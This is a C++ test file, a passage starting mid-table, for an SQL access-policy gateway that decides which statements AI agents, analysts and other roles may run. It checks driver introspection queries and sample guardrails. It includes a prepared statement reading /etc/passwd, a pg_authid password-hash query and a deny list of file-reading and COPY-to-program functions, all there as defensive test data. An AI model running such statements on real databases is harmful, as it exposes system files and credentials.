     .kind = K::kSelect, .cls = C::kRead, .rels = "public.t", .fns = "jsonb_build_object|to_jsonb", .out = kAllow, .rule = kAgentRule},
    {.name = "WindowFunctionsAreReads", .who = kAgent, .sql = "SELECT id, row_number() OVER (PARTITION BY v ORDER BY id) FROM public.t",
     .kind = K::kSelect, .cls = C::kRead, .rels = "public.t", .fns = "row_number", .out = kAllow, .rule = kAgentRule},
    {.name = "CastsAreReads", .who = kAgent, .sql = "SELECT '1'::int, CAST('2' AS bigint), 'secret.t'::regclass",
     .kind = K::kSelect, .cls = C::kRead, .out = kAllow, .rule = kAgentRule},
    {.name = "JsonEachFieldsAreRead", .who = kAgent, .sql = "SELECT j.key, j.value FROM public.t, jsonb_each(t.doc) AS j",
     .kind = K::kSelect, .cls = C::kRead, .rels = "public.t", .fns = "*", .out = kAllow, .rule = kAgentRule},
    {.name = "JdbcSetupIsASessionStatement", .who = kAgent, .sql = "SET extra_float_digits = 3",
     .kind = K::kSet, .cls = C::kSession, .out = kAllow, .rule = kSession},
    {.name = "ApplicationNameIsASessionStatement", .who = kAgent, .sql = "SET application_name = 'PostgreSQL JDBC Driver'",
     .kind = K::kSet, .cls = C::kSession, .out = kAllow, .rule = kSession},

    // ---- ORM and BI introspection ----
    // What drivers run with catalogs unqualified, for a caller allowed one table of public: the
    // catalogs resolve to pg_catalog (searched first), not to public.pg_type as well.
    {.name = "PsycopgTypeLookupIsIntrospectionForATableRestrictedCaller", .who = kOneTable,
     .sql = "SELECT t.oid, typarray FROM pg_type t JOIN pg_namespace ns ON typnamespace = ns.oid WHERE typname = 'hstore'",
     .kind = K::kSelect, .cls = C::kRead, .rels = "pg_type|pg_namespace", .out = kAllow, .rule = kOneTableRule},
    {.name = "PsycopgCompositeLookupIsIntrospectionForATableRestrictedCaller", .who = kOneTable,
     .sql = "SELECT t.oid, typarray, attname, atttypid FROM pg_type t JOIN pg_namespace ns ON typnamespace = ns.oid "
            "JOIN pg_attribute a ON attrelid = typrelid WHERE typname = 'pair' AND nspname = 'public' AND attnum > 0 "
            "AND NOT attisdropped ORDER BY attnum",
     .kind = K::kSelect, .cls = C::kRead, .rels = "pg_type|pg_namespace|pg_attribute", .out = kAllow, .rule = kOneTableRule},
    {.name = "JdbcTypeInfoCacheIsIntrospectionForATableRestrictedCaller", .who = kOneTable,
     .sql = "SELECT typinput='pg_catalog.array_in'::regproc as is_array, typtype, typname, pg_type.oid FROM "
            "pg_catalog.pg_type LEFT JOIN (select ns.oid as nspoid, ns.nspname, r.r from pg_namespace as ns join ( "
            "select s.r, (current_schemas(false))[s.r] as nspname from generate_series(1, "
            "array_upper(current_schemas(false), 1)) as s(r) ) as r using ( nspname ) ) as sp ON sp.nspoid = "
            "typnamespace WHERE pg_type.oid = $1 ORDER BY sp.r, pg_type.oid DESC",
     .kind = K::kSelect, .cls = C::kRead, .rels = "pg_catalog.pg_type|pg_namespace", .fns = "*", .out = kAllow,
     .rule = kOneTableRule},
    {.name = "UnqualifiedPgTablesIsIntrospectionForATableRestrictedCaller", .who = kOneTable,
     .sql = "SELECT tablename FROM pg_tables WHERE schemaname = 'public'",
     .kind = K::kSelect, .cls = C::kRead, .rels = "pg_tables", .out = kAllow, .rule = kOneTableRule},
    {.name = "UnqualifiedPasswordHashesStayDeniedToATableRestrictedCaller", .who = kOneTable,
     .sql = "SELECT rolname, rolpassword FROM pg_authid",
     .kind = K::kSelect, .cls = C::kRead, .rels = "pg_authid", .out = kDeny, .rule = kDefaultDeny},
    {.name = "UnqualifiedPgNameANewerServerAddedMayBeATableOfThePath", .who = kOneTable,
     .sql = "SELECT * FROM pg_stat_io",
     .kind = K::kSelect, .cls = C::kRead, .rels = "pg_stat_io", .out = kDeny, .rule = kDefaultDeny},
    {.name = "CatalogListedAfterThePathMayBeShadowedByIt", .who = kOneTable,
     .sql = "SET search_path = public, pg_catalog; SELECT typname FROM pg_type",
     .kind = K::kSet, .cls = C::kRead, .rels = "pg_type", .path = SP::kSet, .set_path = "public|pg_catalog",
     .out = kDeny, .rule = kDefaultDeny},
    {.name = "UnqualifiedTableOutsideTheListIsDeniedToATableRestrictedCaller", .who = kOneTable,
     .sql = "SELECT * FROM u", .kind = K::kSelect, .cls = C::kRead, .rels = "u", .out = kDeny, .rule = kDefaultDeny},
    {.name = "PsqlDescribeTableLookup", .who = kAnalyst,
     .sql = "SELECT c.oid, n.nspname, c.relname FROM pg_catalog.pg_class c LEFT JOIN pg_catalog.pg_namespace n "
            "ON n.oid = c.relnamespace WHERE c.relname OPERATOR(pg_catalog.~) '^(t)$' COLLATE pg_catalog.default "
            "AND pg_catalog.pg_table_is_visible(c.oid) ORDER BY 2, 3;",
     .kind = K::kSelect, .cls = C::kRead, .rels = "pg_catalog.pg_class|pg_catalog.pg_namespace",
     .fns = "pg_catalog.pg_table_is_visible", .out = kAllow, .rule = kAnalystRule},
    {.name = "PsqlDescribeColumns", .who = kAnalyst,
     .sql = "SELECT a.attname, pg_catalog.format_type(a.atttypid, a.atttypmod), (SELECT pg_catalog.pg_get_expr(d.adbin, "
            "d.adrelid, true) FROM pg_catalog.pg_attrdef d WHERE d.adrelid = a.attrelid AND d.adnum = a.attnum AND "
            "a.atthasdef), a.attnotnull FROM pg_catalog.pg_attribute a WHERE a.attrelid = '16384' AND a.attnum > 0 "
            "AND NOT a.attisdropped ORDER BY a.attnum;",
     .kind = K::kSelect, .cls = C::kRead, .rels = "*", .fns = "*", .out = kAllow, .rule = kAnalystRule},
    {.name = "PsqlListRelations", .who = kAnalyst,
     .sql = "SELECT n.nspname as \"Schema\", c.relname as \"Name\", CASE c.relkind WHEN 'r' THEN 'table' WHEN 'v' "
            "THEN 'view' END as \"Type\", pg_catalog.pg_get_userbyid(c.relowner) as \"Owner\" FROM pg_catalog.pg_class c "
            "LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace WHERE c.relkind IN ('r','p','') AND "
            "n.nspname <> 'pg_catalog' AND n.nspname !~ '^pg_toast' AND n.nspname <> 'information_schema' AND "
            "pg_catalog.pg_table_is_visible(c.oid) ORDER BY 1,2;",
     .kind = K::kSelect, .cls = C::kRead, .rels = "pg_catalog.pg_class|pg_catalog.pg_namespace", .fns = "*",
     .out = kAllow, .rule = kAnalystRule},
    {.name = "PsqlListDatabases", .who = kAnalyst,
     .sql = "SELECT d.datname as \"Name\", pg_catalog.pg_get_userbyid(d.datdba) as \"Owner\", "
            "pg_catalog.pg_encoding_to_char(d.encoding) as \"Encoding\", pg_catalog.array_to_string(d.datacl, "
            "E'\\n') AS \"Access privileges\" FROM pg_catalog.pg_database d ORDER BY 1;",
     .kind = K::kSelect, .cls = C::kRead, .rels = "pg_catalog.pg_database", .fns = "*", .out = kAllow, .rule = kAnalystRule},
    {.name = "PsqlDescribeIndexes", .who = kAnalyst,
     .sql = "SELECT c2.relname, i.indisprimary, i.indisunique, pg_catalog.pg_get_indexdef(i.indexrelid, 0, true) "
            "FROM pg_catalog.pg_class c, pg_catalog.pg_class c2, pg_catalog.pg_index i WHERE c.oid = '16384' AND "
            "c.oid = i.indrelid AND i.indexrelid = c2.oid ORDER BY i.indisprimary DESC, c2.relname;",
     .kind = K::kSelect, .cls = C::kRead, .rels = "pg_catalog.pg_class|pg_catalog.pg_index",
     .fns = "pg_catalog.pg_get_indexdef", .out = kAllow, .rule = kAnalystRule},
    {.name = "SqlAlchemyHasTable", .who = kAnalyst,
     .sql = "SELECT pg_catalog.pg_class.relname FROM pg_catalog.pg_class JOIN pg_catalog.pg_namespace ON "
            "pg_catalog.pg_namespace.oid = pg_catalog.pg_class.relnamespace WHERE pg_catalog.pg_class.relname = 't' "
            "AND pg_catalog.pg_class.relkind = ANY (ARRAY['r', 'p', 'f', 'v', 'm']) AND "
            "pg_catalog.pg_table_is_visible(pg_catalog.pg_class.oid) AND pg_catalog.pg_namespace.nspname != 'pg_catalog'",
     .kind = K::kSelect, .cls = C::kRead, .rels = "pg_catalog.pg_class|pg_catalog.pg_namespace",
     .fns = "pg_catalog.pg_table_is_visible", .out = kAllow, .rule = kAnalystRule},
    {.name = "SqlAlchemyServerVersion", .who = kAnalyst, .sql = "select pg_catalog.version()",
     .kind = K::kSelect, .cls = C::kRead, .fns = "pg_catalog.version", .out = kAllow, .rule = kAnalystRule},
    {.name = "SqlAlchemyStandardConformingStrings", .who = kAnalyst, .sql = "show standard_conforming_strings",
     .kind = K::kShow, .cls = C::kRead, .out = kAllow, .rule = kAnalystRule},
    {.name = "SqlAlchemyCurrentSchema", .who = kAnalyst, .sql = "select current_schema()",
     .kind = K::kSelect, .cls = C::kRead, .fns = "*", .out = kAllow, .rule = kAnalystRule},
    {.name = "SqlAlchemyGetColumns", .who = kAnalyst,
     .sql = "SELECT a.attname, pg_catalog.format_type(a.atttypid, a.atttypmod), (SELECT pg_catalog.pg_get_expr(d.adbin, "
            "d.adrelid) FROM pg_catalog.pg_attrdef d WHERE d.adrelid = a.attrelid AND d.adnum = a.attnum AND "
            "a.atthasdef) AS DEFAULT, a.attnotnull, a.attrelid as table_oid, pgd.description as comment FROM "
            "pg_catalog.pg_attribute a LEFT JOIN pg_catalog.pg_description pgd ON (pgd.objoid = a.attrelid AND "
            "pgd.objsubid = a.attnum) WHERE a.attrelid = 16384 AND a.attnum > 0 AND NOT a.attisdropped ORDER BY a.attnum",
     .kind = K::kSelect, .cls = C::kRead, .rels = "*", .fns = "*", .out = kAllow, .rule = kAnalystRule},
    {.name = "HibernateSequences", .who = kAnalyst, .sql = "select * from information_schema.sequences",
     .kind = K::kSelect, .cls = C::kRead, .rels = "information_schema.sequences", .out = kAllow, .rule = kAnalystRule},
    {.name = "JdbcGetTables", .who = kAnalyst,
     .sql = "SELECT NULL AS TABLE_CAT, n.nspname AS TABLE_SCHEM, c.relname AS TABLE_NAME, CASE n.nspname ~ '^pg_' OR "
            "n.nspname = 'information_schema' WHEN true THEN CASE WHEN n.nspname = 'pg_catalog' OR n.nspname = "
            "'information_schema' THEN CASE c.relkind WHEN 'r' THEN 'SYSTEM TABLE' ELSE NULL END ELSE NULL END WHEN "
            "false THEN CASE c.relkind WHEN 'r' THEN 'TABLE' WHEN 'v' THEN 'VIEW' ELSE NULL END ELSE NULL END AS "
            "TABLE_TYPE, d.description AS REMARKS FROM pg_catalog.pg_namespace n, pg_catalog.pg_class c LEFT JOIN "
            "pg_catalog.pg_description d ON (c.oid = d.objoid AND d.objsubid = 0 and d.classoid = "
            "'pg_class'::regclass) WHERE c.relnamespace = n.oid AND c.relname LIKE 't' ORDER BY TABLE_TYPE, "
            "TABLE_SCHEM, TABLE_NAME",
     .kind = K::kSelect, .cls = C::kRead, .rels = "*", .fns = "*", .out = kAllow, .rule = kAnalystRule},
    {.name = "JdbcGetPrimaryKeysUsesFieldSelection", .who = kAnalyst,
     .sql = "SELECT result.TABLE_CAT, result.KEY_SEQ FROM (SELECT NULL AS TABLE_CAT, n.nspname AS TABLE_SCHEM, "
            "ct.relname AS TABLE_NAME, a.attname AS COLUMN_NAME, (information_schema._pg_expandarray(i.indkey)).n AS "
            "KEY_SEQ, ci.relname AS PK_NAME, information_schema._pg_expandarray(i.indkey) AS KEYS, a.attnum AS "
            "A_ATTNUM FROM pg_catalog.pg_class ct JOIN pg_catalog.pg_attribute a ON (ct.oid = a.attrelid) JOIN "
            "pg_catalog.pg_namespace n ON (ct.relnamespace = n.oid) JOIN pg_catalog.pg_index i ON ( a.attrelid = "
            "i.indrelid) JOIN pg_catalog.pg_class ci ON (ci.oid = i.indexrelid) WHERE true AND ct.relname = E't' AND "
            "i.indisprimary ) result where result.A_ATTNUM = (result.KEYS).x ORDER BY result.table_name, "
            "result.pk_name, result.key_seq",
     .kind = K::kSelect, .cls = C::kRead, .rels = "*", .fns = "*", .out = kAllow, .rule = kAnalystRule},
    {.name = "MetabaseTables", .who = kAnalyst,
     .sql = "SELECT n.nspname AS schema, c.relname AS name, CASE c.relkind WHEN 'r' THEN 'TABLE' WHEN 'p' THEN "
            "'PARTITIONED TABLE' WHEN 'v' THEN 'VIEW' WHEN 'f' THEN 'FOREIGN TABLE' WHEN 'm' THEN 'MATERIALIZED VIEW' "
            "ELSE NULL END AS type, d.description AS description, stat.n_live_tup AS estimated_row_count FROM "
            "pg_catalog.pg_class c INNER JOIN pg_catalog.pg_namespace n ON c.relnamespace = n.oid LEFT JOIN "
            "pg_catalog.pg_description d ON c.oid = d.objoid AND d.objsubid = 0 LEFT JOIN pg_stat_user_tables stat "
            "ON n.nspname = stat.schemaname AND c.relname = stat.relname WHERE c.relnamespace = n.oid AND n.nspname "
            "!~ '^information_schema|catalog_history|pg_' AND c.relkind in ('r', 'p', 'v', 'f', 'm') AND n.nspname "
            "IN ('public') ORDER BY type, schema, name",
     .kind = K::kSelect, .cls = C::kRead, .rels = "*", .fns = "*", .out = kAllow, .rule = kAnalystRule},
    {.name = "MetabaseTablePrivileges", .who = kAnalyst, .sql = "SELECT has_table_privilege(current_user, 'public.t', 'SELECT')",
     .kind = K::kSelect, .cls = C::kRead, .fns = "has_table_privilege", .out = kAllow, .rule = kAnalystRule},
    {.name = "DbeaverSchemas", .who = kAnalyst,
     .sql = "SELECT n.oid, n.*, d.description FROM pg_catalog.pg_namespace n LEFT OUTER JOIN pg_catalog.pg_description d "
            "ON d.objoid = n.oid AND d.objsubid = 0 AND d.classoid = 'pg_namespace'::regclass ORDER BY nspname",
     .kind = K::kSelect, .cls = C::kRead, .rels = "pg_catalog.pg_namespace|pg_catalog.pg_description", .out = kAllow,
     .rule = kAnalystRule},
    {.name = "NpgsqlTypeLoading", .who = kAnalyst,
     .sql = "SELECT ns.nspname, typ_and_elem_type.*, CASE WHEN typtype IN ('b', 'e', 'p') THEN 0 WHEN typtype = 'r' "
            "THEN 1 END AS ord FROM (SELECT typ.oid, typ.typnamespace, typ.typname, typ.typtype, typ.typrelid, "
            "typ.typnotnull, typ.relkind, elemtyp.oid AS elemtypoid FROM (SELECT typ.oid, typnamespace, typname, "
            "typrelid, typnotnull, relkind, typelem AS elemoid, CASE WHEN proc.proname='array_recv' THEN 'a' ELSE "
            "typ.typtype END AS typtype FROM pg_type AS typ LEFT JOIN pg_class AS cls ON (cls.oid = typ.typrelid) "
            "LEFT JOIN pg_proc AS proc ON proc.oid = typ.typreceive) AS typ LEFT JOIN pg_type AS elemtyp ON "
            "elemtyp.oid = elemoid) AS typ_and_elem_type JOIN pg_namespace AS ns ON (ns.oid = typnamespace) ORDER BY ord",
     .kind = K::kSelect, .cls = C::kRead, .rels = "*", .fns = "*", .out = kAllow, .rule = kAnalystRule},
    {.name = "PgActivityForTheCurrentDatabase", .who = kAnalyst,
     .sql = "SELECT pid, usename, state, query FROM pg_catalog.pg_stat_activity WHERE datname = current_database()",
     .kind = K::kSelect, .cls = C::kRead, .rels = "pg_catalog.pg_stat_activity", .fns = "current_database", .out = kAllow,
     .rule = kAnalystRule},
    {.name = "CatalogIntrospectionIsAllowedForTheDba", .who = kDba, .sql = "SELECT rolname FROM pg_catalog.pg_roles",
     .kind = K::kSelect, .cls = C::kRead, .rels = "pg_catalog.pg_roles", .out = kAllow, .rule = kDbaRule},
    {.name = "InformationSchemaColumnsAreIntrospectionForAgents", .who = kAgent,
     .sql = "SELECT column_name FROM information_schema.columns WHERE table_name = 't'",
     .kind = K::kSelect, .cls = C::kRead, .rels = "information_schema.columns", .out = kAllow, .rule = kAgentRule},
    {.name = "CatalogIsNotWritableThroughIntrospection", .who = kAgent,
     .sql = "UPDATE pg_catalog.pg_class SET relname = 'x' WHERE relname = 't'",
     .kind = K::kUpdate, .cls = C::kWrite, .rels = "pg_catalog.pg_class+", .out = kDeny, .rule = kDefaultDeny},
};
// clang-format on

AccessRule rule(std::string name, std::string group, std::vector<Action> actions,
                std::vector<std::string> tables) {
  AccessRule r;
  r.name = std::move(name);
  r.groups = {std::move(group)};
  r.connections = {"traces"};
  r.actions = std::move(actions);
  r.tables = std::move(tables);
  return r;
}

Guardrail guardrail(std::string name, std::vector<K> statements) {
  Guardrail g;
  g.name = std::move(name);
  g.statements = std::move(statements);
  return g;
}

// The access rules and guardrails of config.md, with a table-restricted
// reader that may also read the catalogs, a reader of one table and a writer
// beside them.
const Policy& sample_policy() {
  static const Policy policy = [] {
    using A = Action;
    Policy p;
    p.version = 42;
    p.access.rules = {
        rule(kAgentRule, "ai-agents", {A::kRead}, {"public.*"}),
        rule(kAnalystRule, "analysts", {A::kRead},
             {"public.*", "pg_catalog.*", "information_schema.*"}),
        rule(kWriterRule, "app", {A::kRead, A::kWrite}, {"public.*"}),
        rule(kOneTableRule, "one-table", {A::kRead}, {"public.t"}),
        rule(kDbaRule, "dba", {A::kRead, A::kWrite, A::kDdl, A::kAdmin}, {}),
    };
    p.access.rules.back().connections = {"*"};
    p.guardrails.push_back(guardrail(kNoDestructive, {K::kDrop, K::kTruncate, K::kAlterSystem}));
    Guardrail unbounded = guardrail(kNoUnbounded, {K::kUpdate, K::kDelete});
    unbounded.without_where = true;
    p.guardrails.push_back(unbounded);
    Guardrail files = guardrail(kNoFiles, {});
    files.functions = {"pg_read_file", "pg_read_binary_file", "pg_ls_dir",
                       "lo_import",    "lo_export",           "dblink*"};
    p.guardrails.push_back(files);
    Guardrail dynamic = guardrail(kNoDynamic, {K::kDo, K::kCall, K::kCreateFunction, K::kExecute});
    dynamic.groups = {"ai-agents"};
    p.guardrails.push_back(dynamic);
    p.guardrails.push_back(guardrail(
        kNoExport, {K::kCopyToFile, K::kCopyFromFile, K::kCopyToProgram, K::kCopyFromProgram}));
    return p;
  }();
  return policy;
}

model::Principal principal(Who who) {
  model::Principal p;
  switch (who) {
    case Who::kAgent:
      p.subject = "agent-7";
      p.groups = {"ai-agents"};
      break;
    case Who::kAnalyst:
      p.subject = "ana";
      p.groups = {"analysts"};
      break;
    case Who::kWriter:
      p.subject = "svc-app";
      p.groups = {"app"};
      break;
    case Who::kDba:
      p.subject = "dora";
      p.groups = {"dba"};
      break;
    case Who::kOneTable:
      p.subject = "otto";
      p.groups = {"one-table"};
      break;
  }
  return p;
}

// SQL-level PREPAREd statements of the session, by name, as the gateway
// keeps them (the analysis of the PREPARE).
const PreparedStatements& prepared() {
  static const PreparedStatements statements = [] {
    PreparedStatements out;
    auto add = [&](const char* name, const char* sql) {
      out[name] = std::make_shared<const model::Analysis>(sql::analyze(sql));
    };
    add("sel", "PREPARE sel(int) AS SELECT * FROM public.t WHERE id = $1");
    add("del", "PREPARE del(int) AS DELETE FROM public.t WHERE id = $1");
    add("wipe", "PREPARE wipe AS DELETE FROM public.t");
    add("peek", "PREPARE peek AS SELECT * FROM secret.t");
    add("leak", "PREPARE leak AS SELECT pg_read_file('/etc/passwd')");
    add("unq", "PREPARE unq AS SELECT * FROM t");
    return out;
  }();
  return statements;
}

SessionView session(Sess s) {
  SessionView v;
  v.search_paths = {{"public"}};
  v.session_user = "svc";
  v.prepared = &prepared();
  if (s == Sess::kTwoPaths) v.search_paths.push_back({"secret"});
  if (s == Sess::kPathUnknown) v.search_path_unknown = true;
  if (s == Sess::kUserUnknown) {
    v.search_paths = {{"$user", "public"}};
    v.session_user.clear();
  }
  return v;
}

std::string quoted_if_dotted(const std::string& s) {
  return s.find('.') == std::string::npos ? s : "\"" + s + "\"";
}

std::string qualified(const std::string& schema, const std::string& name) {
  return schema.empty() ? quoted_if_dotted(name)
                        : quoted_if_dotted(schema) + "." + quoted_if_dotted(name);
}

std::string relations_of(const model::Analysis& a) {
  std::string out;
  for (const auto& st : a.statements)
    for (const auto& r : st.relations)
      out += (out.empty() ? "" : "|") + qualified(r.schema, r.name) + (r.write ? "+" : "");
  return out;
}

std::string functions_of(const model::Analysis& a) {
  std::string out;
  for (const auto& st : a.statements)
    for (const auto& f : st.functions)
      out += (out.empty() ? "" : "|") + qualified(f.schema, f.name);
  return out;
}

unsigned flags_of(const model::Analysis& a) {
  unsigned f = 0;
  for (const auto& st : a.statements) {
    for (const auto& op : st.operations)
      if (op.without_where) f |= kNoWhere;
    if (st.locking) f |= kLocking;
    if (st.data_modifying_cte) f |= kDmCte;
    if (st.creates_table_as) f |= kCtas;
    if (st.dynamic_sql) f |= kDynSql;
  }
  return f;
}

std::string flag_names(unsigned f) {
  std::string out;
  auto add = [&](unsigned bit, const char* name) {
    if (f & bit) out += (out.empty() ? "" : "|") + std::string(name);
  };
  add(kNoWhere, "without_where");
  add(kLocking, "locking");
  add(kDmCte, "data_modifying_cte");
  add(kCtas, "creates_table_as");
  add(kDynSql, "dynamic_sql");
  return out;
}

std::string copy_target_of(const model::Analysis& a) {
  for (const auto& st : a.statements)
    if (!st.copy_target.empty()) return st.copy_target;
  return {};
}

const model::Statement* search_path_change_of(const model::Analysis& a) {
  for (const auto& st : a.statements)
    if (st.search_path_change != SP::kNone) return &st;
  return nullptr;
}

std::string joined(const std::vector<std::string>& parts) {
  std::string out;
  for (const auto& p : parts) out += (out.empty() ? "" : "|") + p;
  return out;
}

const char* path_name(SP p) {
  switch (p) {
    case SP::kNone:
      return "none";
    case SP::kSet:
      return "set";
    case SP::kReset:
      return "reset";
    case SP::kDynamic:
      return "dynamic";
  }
  return "?";
}

const char* outcome_name(Decision::Outcome o) {
  switch (o) {
    case Decision::Outcome::kAllow:
      return "allow";
    case Decision::Outcome::kDeny:
      return "deny";
    case Decision::Outcome::kUnanalyzable:
      return "unanalyzable";
  }
  return "?";
}

const char* outcome_name(Out o) {
  return o == kAllow ? "allow" : o == kDeny ? "deny" : "unanalyzable";
}

class PolicyCorpus : public ::testing::TestWithParam<Row> {};

TEST_P(PolicyCorpus, AnalysisAndDecision) {
  const Row& row = GetParam();
  SCOPED_TRACE(row.sql);
  const model::Analysis a = sql::analyze(row.sql);

  EXPECT_EQ(model::kind_name(a.kind), model::kind_name(row.kind)) << a.error;
  EXPECT_EQ(model::class_name(a.cls), model::class_name(row.cls)) << a.error;
  if (std::string_view(row.rels) != "*") {
    EXPECT_EQ(relations_of(a), row.rels);
  }
  if (std::string_view(row.fns) != "*") {
    EXPECT_EQ(functions_of(a), row.fns);
  }
  EXPECT_EQ(flag_names(flags_of(a)), flag_names(row.flags));
  EXPECT_EQ(copy_target_of(a), row.copy);
  const model::Statement* changed = search_path_change_of(a);
  EXPECT_STREQ(path_name(changed != nullptr ? changed->search_path_change : SP::kNone),
               path_name(row.path));
  if (changed != nullptr && changed->search_path_change == SP::kSet) {
    EXPECT_EQ(joined(changed->search_path), row.set_path);
  }

  const SessionView view = session(row.sess);
  const Decision d = decide(sample_policy(), principal(row.who), "traces", a, view);
  EXPECT_STREQ(outcome_name(d.outcome), outcome_name(row.out))
      << d.rule << ": " << d.what << " (" << d.detail << ")";
  EXPECT_EQ(d.rule, row.rule) << d.what << " (" << d.detail << ")";
  EXPECT_EQ(d.policy_version, 42u);

  // The shared cache, which keys most statements by their constant-free text
  // and has seen every row before this one, must not decide otherwise.
  static sql::AnalysisCache cache;
  const model::AnalysisPtr cached = cache.get(row.sql);
  const Decision c = decide(sample_policy(), principal(row.who), "traces", *cached, view);
  EXPECT_STREQ(outcome_name(c.outcome), outcome_name(d.outcome)) << "from the cache";
  EXPECT_EQ(c.rule, d.rule) << "from the cache";
}

INSTANTIATE_TEST_SUITE_P(Rows, PolicyCorpus, ::testing::ValuesIn(kCorpus),
                         [](const ::testing::TestParamInfo<Row>& info) {
                           return std::string(info.param.name);
                         });

// A gateway token exchanged for fewer groups: `ai-agents` dropped, `dba`
// kept. Grants follow the token's groups, restrictions every group of the
// identity it came from.
model::Principal narrowed_agent() {
  model::Principal p;
  p.subject = "agent-7";
  p.groups = {"dba"};
  p.origin_groups = {"ai-agents", "dba"};
  p.gateway_token = true;
  return p;
}

TEST(NarrowedToken, DroppingAGroupShedsNoGuardrailAimedAtIt) {
  const model::Analysis a = sql::analyze("DO $$ BEGIN PERFORM 1; END $$");
  const Decision d = decide(sample_policy(), narrowed_agent(), "traces", a, session(Sess::kPinned));
  EXPECT_STREQ(outcome_name(d.outcome), outcome_name(kDeny));
  EXPECT_EQ(d.rule, kNoDynamic);
}

TEST(NarrowedToken, DroppingAGroupDropsWhatItGranted) {
  // Only `dba` grants here: a table outside the agents' allow-list is read
  // through it, and the agents' rule no longer applies.
  const model::Analysis a = sql::analyze("SELECT * FROM secret.t");
  const Decision d = decide(sample_policy(), narrowed_agent(), "traces", a, session(Sess::kPinned));
  EXPECT_STREQ(outcome_name(d.outcome), outcome_name(kAllow));
  EXPECT_EQ(d.rule, kDbaRule);
  model::Principal only_agents = narrowed_agent();
  only_agents.groups = {};
  const Decision none = decide(sample_policy(), only_agents, "traces", a, session(Sess::kPinned));
  EXPECT_STREQ(outcome_name(none.outcome), outcome_name(kDeny));
  EXPECT_EQ(none.rule, kDefaultDeny);
}

// Opaque functions: a call of a routine the database defines itself is
// judged by its catalog (VOLATILE or a procedure: a write).
struct CatalogView {
  UserFunctions functions{
      {"wipe", {UserFunction{"public", true}}},
      {"peek", {UserFunction{"public", false}}},
      {"twin", {UserFunction{"public", false}, UserFunction{"ops", true}}},
  };
  SessionView view = [] {
    SessionView v = session(Sess::kPinned);
    v.user_functions_judged = true;
    return v;
  }();
  Decision as_agent(const char* sql, bool readable = true) {
    view.user_functions = readable ? &functions : nullptr;
    return decide(sample_policy(), principal(Who::kAgent), "traces", sql::analyze(sql), view);
  }
};

TEST(OpaqueFunctions, VolatileUserFunctionIsAWriteForAReader) {
  CatalogView c;
  for (const char* sql :
       {"SELECT public.wipe()", "SELECT wipe()", "SELECT * FROM public.t WHERE id = wipe()",
        "SELECT twin()", "SELECT ops.twin()"}) {
    const Decision d = c.as_agent(sql);
    EXPECT_STREQ(outcome_name(d.outcome), outcome_name(kDeny)) << sql;
    EXPECT_NE(d.what.find("is a write"), std::string::npos) << sql << ": " << d.what;
  }
}

TEST(OpaqueFunctions, StableUserFunctionsAndBuiltInsAreReads) {
  CatalogView c;
  for (const char* sql : {"SELECT public.peek()", "SELECT peek(), lower('x'), now()",
                          "SELECT public.twin()", "SELECT random(), count(*) FROM public.t"}) {
    const Decision d = c.as_agent(sql);
    EXPECT_STREQ(outcome_name(d.outcome), outcome_name(kAllow)) << sql << ": " << d.what;
  }
}

TEST(OpaqueFunctions, UnreadableCatalogCountsEveryCallOutsidePgCatalogAsAWrite) {
  CatalogView c;
  EXPECT_STREQ(outcome_name(c.as_agent("SELECT peek()", false).outcome), outcome_name(kDeny));
  EXPECT_STREQ(outcome_name(c.as_agent("SELECT pg_catalog.lower('x')", false).outcome),
               outcome_name(kAllow));
}

TEST(OpaqueFunctions, AnAccessRulesFunctionListGrantsNamedOnes) {
  CatalogView c;
  Policy p = sample_policy();
  p.access.rules[0].functions = {"public.wipe"};
  c.view.user_functions = &c.functions;
  const auto agent = principal(Who::kAgent);
  EXPECT_STREQ(
      outcome_name(decide(p, agent, "traces", sql::analyze("SELECT wipe()"), c.view).outcome),
      outcome_name(kAllow));
  // Not every candidate of an unqualified name is listed: still a write.
  EXPECT_STREQ(
      outcome_name(decide(p, agent, "traces", sql::analyze("SELECT twin()"), c.view).outcome),
      outcome_name(kDeny));
}

TEST(PolicyCorpusSize, HasAtLeast220Rows) {
  EXPECT_GE(std::size(kCorpus), 220u);
}

}  // namespace
}  // namespace gh::policy
